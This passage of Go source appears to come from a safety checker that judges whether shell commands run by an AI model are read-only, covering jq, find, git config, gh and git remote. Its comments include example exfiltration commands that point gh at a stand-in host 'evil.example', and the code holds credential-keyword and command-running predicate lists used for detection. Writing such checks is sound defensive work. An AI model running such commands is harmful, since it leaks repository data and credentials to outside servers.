// read from a file.
func jqProgram(p *parsedArgs) string {
	if p.has("-f", "--from-file") {
		return "its program is read from a file"
	}
	if len(p.operands) == 0 {
		return ""
	}
	prog := p.operands[0].value
	for _, bad := range []string{"import", "include", "modulemeta", "get_search_list", "$__prog"} {
		if strings.Contains(prog, bad) {
			return "its program may read other files (" + bad + ")"
		}
	}
	return ""
}

// findPredicates are the expression words of a read-only find, with how
// many words each takes. -exec, -execdir, -ok, -okdir (run commands),
// -delete, -fls, -fprint, -fprint0 and -fprintf (write) are absent.
var findPredicates = map[string]int{
	"-name": 1, "-iname": 1, "-path": 1, "-ipath": 1, "-wholename": 1, "-iwholename": 1,
	"-regex": 1, "-iregex": 1, "-regextype": 1, "-type": 1, "-xtype": 1, "-maxdepth": 1,
	"-mindepth": 1, "-size": 1, "-mtime": 1, "-mmin": 1, "-atime": 1, "-amin": 1, "-ctime": 1,
	"-cmin": 1, "-newer": 1, "-anewer": 1, "-cnewer": 1, "-perm": 1, "-user": 1, "-group": 1,
	"-uid": 1, "-gid": 1, "-links": 1, "-inum": 1, "-samefile": 1, "-lname": 1, "-ilname": 1,
	"-used": 1, "-fstype": 1, "-context": 1, "-printf": 1,
	"-empty": 0, "-print": 0, "-print0": 0, "-ls": 0, "-prune": 0, "-quit": 0, "-true": 0,
	"-false": 0, "-readable": 0, "-writable": 0, "-executable": 0, "-nouser": 0, "-nogroup": 0,
	"-depth": 0, "-daystart": 0, "-follow": 0, "-xdev": 0, "-mount": 0, "-noleaf": 0,
	"-ignore_readdir_race": 0, "-noignore_readdir_race": 0, "-not": 0, "-a": 0, "-o": 0,
	"-and": 0, "-or": 0, "!": 0, "(": 0, ")": 0, ",": 0, "-help": 0, "--help": 0, "-version": 0, "--version": 0,
}

// findReadOnly judges find's words: options, start points (names), then
// an expression of allowed predicates only. It returns the start points.
func findReadOnly(args []arg) (starts []arg, why string) {
	i := 0
	for ; i < len(args); i++ {
		a := args[i]
		if !a.literal {
			return nil, "an argument with an expansion"
		}
		switch a.value {
		case "-H", "-L", "-P":
			continue
		}
		break
	}
	for ; i < len(args); i++ {
		v := args[i].value
		if !args[i].literal {
			return nil, "an argument with an expansion"
		}
		if strings.HasPrefix(v, "-") || v == "(" || v == "!" {
			break
		}
		starts = append(starts, args[i])
	}
	for ; i < len(args); i++ {
		a := args[i]
		if !a.literal {
			return nil, "an argument with an expansion"
		}
		v := a.value
		n, ok := findPredicates[v]
		if !ok && strings.HasPrefix(v, "-newer") && len(v) == len("-newerXY") {
			n, ok = 1, true
		}
		if !ok {
			return nil, "find " + v + " is not a read-only predicate"
		}
		for k := 0; k < n; k++ {
			i++
			if i >= len(args) {
				return nil, "find " + v + " lacks its value"
			}
			if !args[i].literal {
				return nil, "an argument with an expansion"
			}
		}
	}
	return starts, ""
}

// gitConfigRead lets git config read one setting by its name, never a
// listing or a pattern: git's configuration can hold credentials (the
// token actions/checkout leaves in http.<url>.extraheader, a
// credential.helper's store, a url.<base>.insteadOf with a token in
// it), and a setting whose name says it holds one asks too.
func gitConfigRead(p *parsedArgs) string {
	const lists = "it prints every setting, credentials among them (http.extraheader, url.insteadOf)"
	ops := p.operands
	// --blob reads the settings of a committed file, judged as a read of
	// that file (git config --blob HEAD:.env --list asks as cat .env).
	blob := p.has("--blob")
	switch {
	case p.has("--list", "-l", "--get-regexp", "--get-urlmatch", "--name-only"):
		if blob && len(ops) <= 2 {
			return ""
		}
		return lists
	case p.has("--get", "--get-all"):
	case len(ops) >= 1 && ops[0].value == "list":
		if blob && len(ops) == 1 {
			return ""
		}
		return lists
	case len(ops) >= 1 && ops[0].value == "get":
		if p.has("--all", "--regexp", "--url") && !blob {
			return lists
		}
		ops = ops[1:]
	default:
		return "it sets or removes configuration"
	}
	if blob && len(ops) >= 1 && len(ops) <= 2 {
		return ""
	}
	if len(ops) != 1 || !ops[0].literal {
		return "it sets or removes configuration"
	}
	key := strings.ToLower(ops[0].value)
	for _, w := range []string{"extraheader", "credential", "token", "password", "passwd", "secret", "insteadof", "auth", "cookie", "proxy"} {
		if strings.Contains(key, w) {
			return "it prints a setting that may hold a credential (" + ops[0].value + ")"
		}
	}
	return ""
}

// ghRepoOnGitHub lets gh name a repository only as [OWNER/]REPO: gh
// also takes HOST/OWNER/REPO and URLs (gh pr list -R evil.example/o/DATA,
// gh repo view https://evil.example/o/r) and sends its request to that
// host, a channel out to a server the model picks.
func ghRepoOnGitHub(p *parsedArgs) string {
	repos := append(append([]arg(nil), p.vals["-R"]...), p.vals["--repo"]...)
	repos = append(repos, p.operands...)
	for _, a := range repos {
		if !a.literal || !ghRepoName(a.value) {
			return "it contacts a host given by its repository"
		}
	}
	if n := len(p.flags["-R"]) + len(p.flags["--repo"]); n != len(p.vals["-R"])+len(p.vals["--repo"]) {
		return "it contacts a host given by its repository"
	}
	return ""
}

// ghRepoName reports whether s is REPO or OWNER/REPO, which gh resolves
// on its default host only.
func ghRepoName(s string) bool {
	parts := strings.Split(s, "/")
	if len(parts) > 2 {
		return false
	}
	for _, part := range parts {
		if part == "" || strings.Trim(part, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789._-") != "" {
			return false
		}
	}
	return true
}

// remoteShow lets git remote show contact only a remote by its name (or
// none, with -n): a URL, a path or a word known only when it runs asks.
func remoteShow(p *parsedArgs) string {
	if p.has("-n") {
		return ""
	}
	for _, o := range p.operands {
		if !o.literal || !remoteName(o.value) {
			return "it contacts a host or path given by its operand"
		}
	}
	return ""
}

// remoteName reports whether s can only be a configured remote's name:
// git takes a word with a colon, or one that starts like a path, as a URL.
func remoteName(s string) bool {
	if s == "" || strings.ContainsAny(s, ":\\") || strings.ContainsAny(s[:1], "/.~-") {
		return false
	}
	return true
}
